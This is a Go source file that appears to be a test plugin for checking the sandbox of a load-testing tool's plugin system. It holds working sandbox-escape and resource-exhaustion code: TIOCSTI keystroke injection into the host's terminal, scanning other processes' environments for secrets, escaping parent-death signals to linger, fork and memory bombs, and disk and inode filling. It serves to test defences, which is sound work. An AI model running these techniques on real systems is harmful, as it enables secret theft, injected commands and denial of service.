package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/barrage-load/barrage/sdk"
)

// hostile is a plugin that tries one escape, named by its config, when asked for values. Its
// one variable, result, says "ok: what it got" or "err: why it failed".
type hostile struct{ a attack }

type attack struct {
	Kind   string `json:"kind"`
	Target string `json:"target"`
	Token  string `json:"token"`
	N      int    `json:"n"`
	MiB    int    `json:"mib"`
}

func (h *hostile) Configure(_ context.Context, config []byte) ([]string, error) {
	if err := json.Unmarshal(config, &h.a); err != nil {
		return nil, err
	}
	return []string{"result"}, nil
}

func (h *hostile) Next(context.Context, int) ([]sdk.Vars, error) {
	res, err := h.a.try()
	out := "ok: " + res
	if err != nil {
		out = "err: " + err.Error()
	}
	return []sdk.Vars{{"result": out}}, nil
}

func (a attack) try() (string, error) {
	self := os.Args[0]
	switch a.Kind {
	case "read":
		b, err := os.ReadFile(a.Target)
		return string(b), err
	case "open":
		f, err := os.Open(a.Target)
		if err != nil {
			return "", err
		}
		return "opened", f.Close()
	case "fd":
		// A descriptor the host inherited without close-on-exec.
		fd, err := strconv.Atoi(a.Target)
		if err != nil {
			return "", err
		}
		b := make([]byte, 256)
		n, err := syscall.Pread(fd, b, 0)
		if err != nil {
			return "", err
		}
		return string(b[:n]), nil
	case "tty":
		// The terminal of the session that started the host: typed into, as if by its user.
		f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
		if err != nil {
			return "", err
		}
		defer f.Close()
		for _, c := range []byte(a.Token) {
			if _, _, errno := syscall.Syscall(syscall.SYS_IOCTL, f.Fd(), syscall.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
				return "opened /dev/tty", fmt.Errorf("TIOCSTI: %w", errno)
			}
		}
		return "typed", nil
	case "vsock":
		// A socket no network namespace confines: to the hypervisor of a virtual machine.
		fd, err := syscall.Socket(40 /* AF_VSOCK */, syscall.SOCK_STREAM, 0)
		if err != nil {
			return "", err
		}
		return "opened", syscall.Close(fd)
	case "write":
		return "written", os.WriteFile(a.Target, []byte(a.Token), 0o644)
	case "tcp":
		c, err := net.DialTimeout("tcp", a.Target, 2*time.Second)
		if err != nil {
			return "", err
		}
		return "connected", c.Close()
	case "udp":
		c, err := net.Dial("udp", a.Target)
		if err != nil {
			return "", err
		}
		defer c.Close()
		_, err = c.Write([]byte(a.Token))
		return "sent", err
	case "scan":
		// Any other process whose environment holds the token: another plugin's secret.
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return "", err
		}
		var found []string
		for _, e := range entries {
			if e.Name() == strconv.Itoa(os.Getpid()) {
				continue
			}
			if env, err := os.ReadFile(filepath.Join("/proc", e.Name(), "environ")); err == nil && bytes.Contains(env, []byte(a.Token)) {
				found = append(found, e.Name())
			}
		}
		if len(found) == 0 {
			return "", fmt.Errorf("no process holds the token among %d", len(entries))
		}
		return strings.Join(found, ","), nil
	case "orphan":
		// Clears the parent-death signal and ignores the signals a lost host brings (a broken
		// pipe on its logs), so that the plugin outlives a host killed with SIGKILL, and
		// leaves a child with the token for the test to find.
		signal.Ignore(syscall.SIGPIPE, syscall.SIGHUP, syscall.SIGTERM)
		// Every thread's: the kernel signals each thread whose parent-death signal is set.
		if _, _, errno := syscall.AllThreadsSyscall(syscall.SYS_PRCTL, syscall.PR_SET_PDEATHSIG, 0, 0); errno != 0 {
			return "", fmt.Errorf("prctl(PR_SET_PDEATHSIG, 0): %w", errno)
		}
		// Without the host's marker, by which a later host would sweep it.
		child := exec.Command(self, "linger", a.Token)
		child.Env = []string{}
		return "cleared", child.Start()
	case "reexec":
		// Executes itself again from a thread other than the one the launcher's exec ran on:
		// a thread's parent-death signal starts at 0, and the exec keeps it, so the process
		// sheds the signal (the prctl the filter refuses is not needed). It lingers then, with
		// the token in its arguments.
		go func() {
			runtime.LockOSThread() // never unlocked: this thread is the exec's
			for syscall.Gettid() == os.Getpid() {
				go func() {}() // the main thread: let the scheduler move this goroutine
				runtime.UnlockOSThread()
				time.Sleep(time.Millisecond)
				runtime.LockOSThread()
			}
			time.Sleep(100 * time.Millisecond) // the answer goes first
			_ = syscall.Exec(self, []string{self, "linger", a.Token}, []string{})
		}()
		return "re-executing", nil
	case "setsid", "daemon":
		// A child in a session of its own with an emptied environment; "daemon" forks once
		// more, so that the lingering process is a grandchild whose parent is gone.
		mode := "linger"
		if a.Kind == "daemon" {
			mode = "fork-linger"
		}
		cmd := exec.Command(self, mode, a.Token)
		cmd.Env = []string{}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if a.Kind == "daemon" {
			return "started", cmd.Run()
		}
		return "started", cmd.Start()
	case "forkbomb":
		n := 0
		for ; n < a.N; n++ {
			if err := exec.Command(self, "linger", a.Token).Start(); err != nil {
				break
			}
		}
		return strconv.Itoa(n), nil
	case "membomb":
		// N processes that each hold MiB of memory: together more than the plugin may have.
		// Once all are started, each still alive answers on its pipe: the count of those is
		// what the plugin holds at once (the kernel may have killed some on the way).
		type hog struct {
			in  io.WriteCloser
			out *bufio.Reader
		}
		var hogs []hog
		for range a.N {
			cmd := exec.Command(self, "hog", strconv.Itoa(a.MiB), a.Token)
			cmd.Env = []string{} // no magic cookie: the SDK leaves its stdout alone
			in, err := cmd.StdinPipe()
			if err != nil {
				return "", err
			}
			out, err := cmd.StdoutPipe()
			if err != nil {
				return "", err
			}
			if err := cmd.Start(); err != nil {
				break
			}
			h := hog{in: in, out: bufio.NewReader(out)}
			_, _ = h.out.ReadString('\n') // "held", or nothing from a killed one
			hogs = append(hogs, h)
		}
		alive := 0
		for _, h := range hogs {
			if _, err := h.in.Write([]byte("?\n")); err != nil {
				continue
			}
			if line, _ := h.out.ReadString('\n'); line == "alive\n" {
				alive++
			}
		}
		return strconv.Itoa(alive), nil
	case "reach", "hold":
		return a.reach()
	case "fill":
		return a.fill()
	case "unshare":
		out, err := exec.Command("unshare", "--user", "true").CombinedOutput()
		if err != nil {
			return "", fmt.Errorf("%w: %s", err, out)
		}
		return "a new user namespace", nil
	}
	return "", fmt.Errorf("unknown attack %q", a.Kind)
}

// fill goes after the host's disk through the plugin's socket folder, the one folder of the
// host's it may write: a reservation of 512 MiB with fallocate past the file's end (which the
// file size limit does not bound), then MiB files of 1 MiB (each within the limit), then N
// sockets (an inode each).
// It says how far each got: "fallocate …; K MiB written (why it stopped); S sockets (why)".
func (a attack) fill() (string, error) {
	dir := os.Getenv("PLUGIN_UNIX_SOCKET_DIR") // go-plugin's; /run/barrage in the sandbox
	if dir == "" {
		return "", fmt.Errorf("no socket folder in the environment")
	}
	var out []string
	f, err := os.OpenFile(filepath.Join(dir, "reserved"), os.O_CREATE|os.O_WRONLY, 0o600)
	if err == nil {
		const keepSize = 1 // FALLOC_FL_KEEP_SIZE: the file's size stays 0
		err = syscall.Fallocate(int(f.Fd()), keepSize, 0, 512<<20)
		_ = f.Close()
	}
	out = append(out, "fallocate 512 MiB: "+errText(err))
	chunk := make([]byte, 1<<20)
	written, err := 0, error(nil)
	for ; written < a.MiB; written++ {
		if err = os.WriteFile(filepath.Join(dir, fmt.Sprintf("fill-%d", written)), chunk, 0o600); err != nil {
			break
		}
	}
	out = append(out, fmt.Sprintf("%d MiB written (%s)", written, errText(err)))
	sockets, err := 0, error(nil)
	for ; sockets < a.N; sockets++ {
		l, lerr := net.ListenUnix("unix", &net.UnixAddr{Name: filepath.Join(dir, fmt.Sprintf("s%d", sockets)), Net: "unix"})
		if err = lerr; err != nil {
			break
		}
		l.SetUnlinkOnClose(false) // the socket's inode stays in the folder
		_ = l.Close()
	}
	out = append(out, fmt.Sprintf("%d sockets (%s)", sockets, errText(err)))
	return strings.Join(out, "; "), nil
}

func errText(err error) string {
	if err == nil {
		return "done"
	}
	return err.Error()
}

// held keeps the connections of "hold" open for as long as the plugin lives.
var held []net.Conn

// guessedDialSocket is where a sandboxed plugin's dial socket is when it has one.
const guessedDialSocket = "/run/barrage/dial.sock"

// reach gets to the target through the host's dial socket (the one the environment names,
// else where it would be), else directly. Reached, it reads the listener's greeting and sends
// the token back, which the listener echoes: "ok: via the dial socket: greeting|echo". "hold"
// keeps the connection open.
func (a attack) reach() (string, error) {
	if os.Getenv(sdk.DialSocketEnv) == "" {
		os.Setenv(sdk.DialSocketEnv, guessedDialSocket)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	how := "via the dial socket"
	c, serr := sdk.Dial(ctx, "tcp", a.Target)
	if serr != nil {
		var derr error
		if c, derr = net.DialTimeout("tcp", a.Target, 2*time.Second); derr != nil {
			return "", fmt.Errorf("dial socket: %w; directly: %w", serr, derr)
		}
		how = "directly"
	}
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	r := bufio.NewReader(c)
	greeting, err := r.ReadString('\n')
	if err != nil {
		_ = c.Close()
		return how + ": connected, no greeting", nil
	}
	if _, err := c.Write([]byte(a.Token + "\n")); err != nil {
		_ = c.Close()
		return "", err
	}
	echo, _ := r.ReadString('\n')
	if a.Kind == "hold" {
		_ = c.SetDeadline(time.Time{})
		held = append(held, c)
	} else {
		_ = c.Close()
	}
	return how + ": " + strings.TrimSpace(greeting) + "|" + strings.TrimSpace(echo), nil
}

// helper is a process started by the hostile plugin: it lingers, or holds memory, with the
// test's token in its arguments so that the test can find it.
func helper(mode string, args []string) {
	switch mode {
	case "linger":
		time.Sleep(time.Hour)
	case "fork-linger":
		cmd := exec.Command(os.Args[0], "linger", args[0])
		cmd.Env = []string{}
		if err := cmd.Start(); err != nil {
			os.Exit(1)
		}
		os.Exit(0) // the lingering grandchild's parent is gone
	case "hog":
		mib, _ := strconv.Atoi(args[0])
		b := make([]byte, mib<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		os.Stdout.WriteString("held\n")
		in := bufio.NewReader(os.Stdin)
		for {
			if _, err := in.ReadString('\n'); err != nil {
				break
			}
			os.Stdout.WriteString("alive\n")
		}
		b[0] = 2
	}
	os.Exit(2)
}
